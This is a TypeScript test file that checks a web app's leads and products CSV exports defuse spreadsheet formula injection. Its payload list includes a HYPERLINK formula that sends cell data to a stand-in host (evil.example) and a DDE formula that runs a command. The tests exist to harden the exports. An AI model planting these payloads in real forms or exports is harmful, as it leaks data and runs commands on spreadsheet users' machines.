import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { createProduct, createSeller } from '../src/seed/factories.ts';
import { call, loginAdmin, useTestApp } from './helpers.ts';

const t = useTestApp();

/** The payloads, as an anonymous visitor can type them into the landing page's lead form. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
  '+91 SUM(1,2)',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
];

describe('CSV exports', () => {
  it('writes formula-looking text from the landing form as quoted text in the leads report', async () => {
    const { token } = await loginAdmin(t.app);
    for (const [i, payload] of PAYLOADS.entries()) {
      const res = await call(t.app, 'POST', '/api/leads', {
        body: { name: payload, company: payload, contact: `98765432${10 + i}`, referredBy: payload },
      });
      expect(res.statusCode, payload).toBe(201);
    }
    const res = await call(t.app, 'GET', '/api/admin/reports/leads.csv', { token });
    expect(res.statusCode).toBe(200);
    const rows = parse(res.body, { columns: true, bom: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.Name)).toEqual(PAYLOADS.map((p) => `'${p}`));
    for (const r of rows) {
      expect(r.Company).toBe(r.Name);
      expect(r['Referred By']).toBe(r.Name);
    }
    // Quoted as well, so a `;` list separator cannot cut a cell in two either.
    expect(res.body).toContain(`"'=cmd|' /C calc'!A0"`);
    expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")"`);
    for (const line of res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n')) {
      expect(line, line).not.toMatch(/(^|,)[=+\-@\t\r]/);
    }
  });

  it('keeps the amounts and quantities the product writes as numbers, and neutralises a seller’s product text', async () => {
    const { token } = await loginAdmin(t.app);
    const s = await createSeller(t.app.db, { companyName: '@Evil Exports' });
    await createProduct(t.app.db, s.manufacturer.id, { name: '-2+3', sku: '=1+1', price: '1234.50', moq: 12 });
    const res = await call(t.app, 'GET', '/api/admin/reports/products.csv', { token });
    const [p] = parse(res.body, { columns: true, bom: true }) as Array<Record<string, string>>;
    expect(p).toMatchObject({
      Product: "'-2+3",
      SKU: "'=1+1",
      Manufacturer: "'@Evil Exports",
      'Price (INR)': '1234.50',
      MOQ: '12',
    });
    expect(res.body).toMatch(/,1234\.50,12,/);
  });
});
